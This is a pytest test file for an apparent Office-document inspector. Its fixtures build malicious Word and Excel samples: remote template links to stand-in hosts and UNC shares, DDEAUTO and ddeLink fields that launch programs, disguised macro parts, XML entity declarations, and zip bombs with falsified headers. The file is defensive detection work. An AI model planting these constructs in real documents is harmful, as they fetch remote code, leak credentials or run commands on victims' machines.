"""The same dangerous thing in other spellings: Word and Excel read them all, so the inspector must."""

import struct
import zlib

import pytest

from kernel.files import cell
from kernel.files.tests import made

RELS = "word___rels__settings_dot_xml_dot_rels"
WORD_FILE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL_FILE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def link(
    kind: str = "attachedTemplate", target: str = "http://x.example/t.dotm", mode: str = ' TargetMode="External"'
) -> str:
    return f'<Relationship Id="r" Type="http://s/relationships/{kind}" Target="{target}"{mode}/>'


def rels(inside: str) -> str:
    return f"<Relationships>{inside}</Relationships>"


def fields(*inside: str) -> bytes:
    return f"<w:document xmlns:w='w'>{''.join(inside)}</w:document>".encode()


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def said(data: bytes, tmp_path) -> str:
    (tmp_path / "file").write_bytes(data)
    try:
        return cell.inspect(tmp_path / "file", tmp_path / "copy").media_type
    except cell.Bad as bad:
        return bad.reason


@pytest.mark.parametrize(
    "text",
    [
        rels(link()),
        rels(link().replace('"', "'")),
        rels(f"<!--{'x' * 9000}-->{link()}"),
        rels(link().replace('"External"', '"&#69;xternal"')),
        "<r:Relationships xmlns:r='r'>" + link().replace("<Rel", "<r:Rel") + "</r:Relationships>",
        rels(link(target="file://10.0.0.1/share/t.dotm")),
        rels(link(target="\\\\10.0.0.1\\share\\t.dotm")),
        rels(link(target="file:///\\\\10.0.0.1\\share\\t.dotm")),
        rels(link(target="mhtml:http://x.example/t!x")),
        rels(link("image", "http://x.example/seen.png")),
    ],
    ids=[
        "plain",
        "single quotes",
        "far down",
        "reference",
        "prefix",
        "host",
        "share",
        "share after slashes",
        "odd scheme",
        "picture that tells who looks",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_what_is_fetched_from_outside_is_found_however_it_is_spelled(text, encoding, tmp_path):
    declared = f'<?xml version="1.0" encoding="{encoding}"?>{text}'
    assert said(made.office(**{RELS: declared.encode(encoding)}), tmp_path) == "outside"


def test_capitals_in_the_name_of_a_part_hide_nothing(tmp_path):
    assert said(made.office(word___rels__a_dot_xml_dot_RELS=rels(link()).encode()), tmp_path) == "outside"


@pytest.mark.parametrize(
    "text",
    [
        rels(link("hyperlink", "https://example.gov.vn/")),
        rels(link(target="file:///C:\\Users\\An\\Bao%20cao.dotx")),
        rels(link("externalLinkPath", "So%20lieu.xlsx")),
        rels(link("image", "media/a.png", mode="")),
    ],
    ids=["hyperlink", "the writer's own template", "a workbook beside this one", "picture inside"],
)
def test_honest_links_pass(text, tmp_path):
    assert said(made.office(**{RELS: text.encode()}), tmp_path) == WORD_FILE


@pytest.mark.parametrize(("kind", "reason"), [("aFChunk", "nested"), ("vbaProject", "macro"), ("control", "macro")])
def test_parts_that_run_or_bring_a_page_along(kind, reason, tmp_path):
    assert said(made.office(**{RELS: rels(link(kind, "a", mode="")).encode()}), tmp_path) == reason


@pytest.mark.parametrize(
    "data",
    [
        fields("<w:fldChar/>", run(" DDEAUTO c:\\x.exe ")),
        fields("<w:fldChar/>", run(" D"), run("DE"), run("AUTO c:\\x.exe")),
        fields("<w:fldChar/>", run(" D"), "\n  ", run("DE"), "\n  ", run("AUTO c:\\x.exe")),
        fields('<w:fldSimple w:instr=" dde c:\\x.exe "/>'),
    ],
    ids=["plain", "over three runs", "on three lines", "as an attribute"],
)
def test_a_field_that_starts_a_program(data, tmp_path):
    assert said(made.office(word__document_dot_xml=data), tmp_path) == "script"


def test_a_field_that_only_speaks_of_it(tmp_path):
    honest = fields("<w:fldChar/>", run(' HYPERLINK "http://a.example/dde/" '), "<w:t>DDE là gì?</w:t>")
    assert said(made.office(word__document_dot_xml=honest), tmp_path) == WORD_FILE


def test_a_workbook_that_starts_a_program(tmp_path):
    data = b'<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>'
    assert said(made.office(made.EXCEL, xl__externalLinks__a_dot_xml=data), tmp_path) == "script"


@pytest.mark.parametrize("kind", ["application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-office.vbaProject"])
def test_a_macro_under_an_innocent_name(kind, tmp_path):
    twice = f'{made.EXCEL}"/><Override PartName="/xl/worksheets/b.xml" ContentType="{kind}'
    assert said(made.office(twice), tmp_path) == "macro"


def test_two_true_workbooks_of_the_least_parts_pass(tmp_path):
    assert [said(made.office(kind), tmp_path) for kind in (made.WORD, made.EXCEL)] == [WORD_FILE, EXCEL_FILE]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_far_down_or_in_another_encoding(encoding, tmp_path):
    bomb = f'<?xml version="1.0" encoding="{encoding}"?><!--{"x" * 9000}--><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert said(made.office(m2_dot_xml=bomb.encode(encoding)), tmp_path) == "script"


def test_an_encoding_that_office_must_not_use(tmp_path):
    text = '<?xml version="1.0" encoding="cp037"?>' + rels(link())
    assert said(made.office(**{RELS: text.encode()}), tmp_path) == "damaged"


def lying(data: bytes, real: bytes, claimed: int) -> bytes:
    """The list claims `claimed` bytes of the entry `real`, and the checksum of just these."""
    size, checksum = struct.pack("<I", len(real)), struct.pack("<I", zlib.crc32(real))
    false = data.replace(size, struct.pack("<I", claimed)).replace(
        checksum, struct.pack("<I", zlib.crc32(real[:claimed]))
    )
    assert false != data
    return false


@pytest.mark.parametrize("claimed", [0, 1_000])
def test_a_bomb_whose_list_claims_little_with_a_fitting_checksum(claimed, tmp_path):
    real = bytes(90_000_000)
    assert said(lying(made.office(media__a_dot_bin=real), real, claimed), tmp_path) in ("heavy", "damaged")


@pytest.mark.parametrize("claimed", [0, 4])
def test_an_entry_whose_list_claims_little_is_read_to_its_end(claimed, tmp_path):
    real = rels(f"<!--{'x' * 9000}-->{link()}").encode()
    assert said(lying(made.office(**{RELS: real}), real, claimed), tmp_path) in ("outside", "damaged")
